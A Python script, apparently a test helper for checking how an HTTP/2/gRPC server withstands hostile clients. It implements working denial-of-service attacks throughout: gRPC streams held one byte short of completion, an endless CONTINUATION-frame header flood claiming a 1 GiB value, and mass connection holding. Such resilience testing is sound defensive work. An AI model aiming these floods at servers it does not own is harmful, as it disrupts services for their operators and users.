#!/usr/bin/env python3
"""What strangers do to a listener. As a program, `attacks.py NAME HOST:PORT`, one of them until it is killed: it takes
no processor that anybody else can use, as if it were on another machine.
"""
import contextlib
import os
import socket
import ssl
import sys
import threading
import time


def connect(address):
    """To an IPv4 address; who is sent away at once gets a socket as well, which is_closed."""
    host, _, port = address.rpartition(":")
    connection = socket.socket()
    connection.settimeout(10)
    with contextlib.suppress(ConnectionResetError):
        connection.connect((host, int(port)))
    return connection


def secure(connection):
    """With TLS, whoever is there."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection)


def close(connections):
    for connection in connections:
        connection.close()


def frame(kind, payload, stream=1, flags=0):
    """Of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


DATA, HEADERS, RESET, SETTINGS, PING, WINDOW = 0, 1, 3, 4, 6, 8
OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BEGIN = OPENING + frame(SETTINGS, b"", 0)
NO_WINDOW = OPENING + frame(SETTINGS, b"\0\x04" + bytes(4), 0)  # no byte of a call's answers may come


def call_headers(method):
    """Of a gRPC call, fields without an index."""
    fields = ((":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "a"), ("te", "trailers"),
              ("content-type", "application/grpc"))
    return b"".join(b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
                    for name, value in fields)


class UnfinishedCalls:
    """A connection whose calls each send a message but for its last byte, as far as the other side lets them. Without a
    size: empty messages for ever, and they take no answer."""

    def __init__(self, address, method, calls, size=None, secured=False):
        self.connection = secure(connect(address)) if secured else connect(address)
        self.connection.setblocking(False)
        self.waiting, self.received = bytearray(NO_WINDOW if size is None else BEGIN), bytearray()
        self.window, self.first_window, self.windows = 65535, 65535, {}
        self.left, self.sent = {}, 0
        for stream in range(1, 2 * calls, 2):
            self.waiting += frame(HEADERS, call_headers(method), stream, flags=4)
            self.left[stream], self.windows[stream] = 1 << 62 if size is None else size + 5, 0
        self.size = size

    def hear(self):
        """Takes what has come; whether the connection still is."""
        try:
            while part := self.connection.recv(1 << 16):
                self.received += part
            return False
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            return False
        while len(self.received) >= 9:
            end = 9 + int.from_bytes(self.received[:3], "big")
            if len(self.received) < end:
                break
            kind, flags, payload = self.received[3], self.received[4], bytes(self.received[9:end])
            stream = int.from_bytes(self.received[5:9], "big")
            del self.received[:end]
            if kind == SETTINGS and not flags & 1:
                for at in range(0, len(payload), 6):
                    if payload[at:at + 2] == b"\0\x04":
                        self.first_window = int.from_bytes(payload[at + 2:at + 6], "big")
                self.waiting += frame(SETTINGS, b"", 0, flags=1)
            elif kind == PING and not flags & 1:  # whose answers let windows grow
                self.waiting += frame(PING, payload, 0, flags=1)
            elif kind == WINDOW and stream == 0:
                self.window += int.from_bytes(payload, "big")
            elif kind == WINDOW and stream in self.windows:
                self.windows[stream] += int.from_bytes(payload, "big")
            elif kind == RESET or kind == HEADERS and flags & 1:  # it is over
                self.left.pop(stream, None)
        return True

    def turn(self):
        """Sends what can be sent; whether the connection still is."""
        if not self.hear():
            return False
        for stream, left in self.left.items():
            size = min(16384, self.window, self.first_window + self.windows[stream], left - 1)
            if size <= 0 or len(self.waiting) > 1 << 20:
                continue
            if self.size is None:
                data = bytes(size)
            else:
                prefix = b"\0" + self.size.to_bytes(4, "big") if left == self.size + 5 else b""
                data = prefix.ljust(size, b"\n")
            self.waiting += frame(DATA, data, stream)
            self.window -= size
            self.windows[stream] -= size
            self.left[stream] -= size
            self.sent += size
        with contextlib.suppress(BlockingIOError, ssl.SSLWantWriteError):
            if self.waiting:
                del self.waiting[:self.connection.send(self.waiting)]
        return True


def send_unfinished(address, done, most=1 << 62, stop_at=1 << 62, secured=False):
    """At most so many bytes in all; returns how many. Eight connections at once, or, where each is to stop at so many
    and stay as it is, one after the other."""
    sent, live = 0, []
    while not done.is_set() and sent + sum(attacker.sent for attacker in live) < most:
        while all(attacker.sent >= stop_at for attacker in live) if stop_at < most else len(live) < 8:
            live.append(UnfinishedCalls(address, "/grpc.health.v1.Health/Check", 64, 15 << 20, secured))
        for attacker in list(live):
            with contextlib.suppress(OSError):
                if attacker.hear() if attacker.sent >= stop_at else attacker.turn():
                    continue
            live.remove(attacker)
            sent += attacker.sent
            attacker.connection.close()
        time.sleep(0.001)
    close([attacker.connection for attacker in live])
    return sent + sum(attacker.sent for attacker in live)


# A connection's beginning, and of a call the field "a" whose value is to have 1 GiB; what comes is of that value.
ENDLESS = BEGIN + frame(HEADERS, b"\0\1a\x7f\x81\xff\xff\xff\x03value")


def send_endless_headers(address, done, secured=False):
    """Again and again; returns how often the other side had enough."""
    ended, more = 0, frame(9, bytes(16384)) + 100 * frame(9, b"v")
    while not done.is_set():
        connection = connect(address)
        try:
            if secured:
                connection = secure(connection)
            connection.settimeout(0.5)
            connection.sendall(ENDLESS)
            while not done.is_set():
                with contextlib.suppress(TimeoutError):
                    connection.sendall(more)
        except OSError:
            ended += 1
        connection.close()
        time.sleep(0.01)
    return ended


def hold_connections(address, done):
    """As fast as it goes, a hundred at a time."""
    held = []
    while not done.is_set():
        with contextlib.suppress(OSError):
            held.append(connect(address))
        if len(held) > 100:
            held.pop(0).close()
            time.sleep(0.005)
    close(held)


if __name__ == "__main__":
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attack = {"connections": hold_connections, "headers": send_endless_headers}[sys.argv[1]]
    attack(sys.argv[2], threading.Event())
